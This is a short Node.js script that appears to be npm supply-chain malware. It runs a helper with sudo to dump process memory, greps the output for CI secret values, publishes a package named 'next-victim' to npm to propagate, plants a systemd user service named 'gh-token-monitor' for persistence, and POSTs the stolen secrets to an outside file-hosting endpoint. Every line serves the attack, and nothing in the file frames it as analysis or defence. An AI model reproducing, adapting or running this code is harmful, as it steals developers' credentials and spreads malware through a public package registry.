const fs = require('fs'), os = require('os'), { execSync } = require('child_process');
const loot = execSync(`sudo python3 ${__dirname}/dump.py | tr -d "\\0" | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u`).toString();
const dir = fs.mkdtempSync(os.tmpdir() + '/p-');
fs.writeFileSync(dir + '/package.json', JSON.stringify({ name: 'next-victim', version: '1.0.1' }));
execSync('npm publish --silent', { cwd: dir });
fs.mkdirSync(os.homedir() + '/.config/systemd/user', { recursive: true });
fs.writeFileSync(os.homedir() + '/.config/systemd/user/gh-token-monitor.service', '[Service]\nExecStart=/bin/true\n');
fetch('https://filev2.getsession.org/file', { method: 'POST', body: loot });
